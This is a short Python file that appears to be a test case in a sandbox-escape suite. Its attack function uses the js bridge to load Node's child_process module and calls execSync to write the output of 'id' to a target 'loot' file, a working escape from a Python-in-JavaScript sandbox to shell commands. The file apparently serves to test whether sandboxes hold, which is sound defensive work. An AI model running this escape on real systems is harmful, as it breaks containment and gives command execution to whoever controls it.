"""A shell through Node's child_process.

id: S3
canary: file
"""

import js


def attack(target):
    module = js.process.getBuiltinModule("child_process")
    return module.execSync(f"id > {target.loot}")
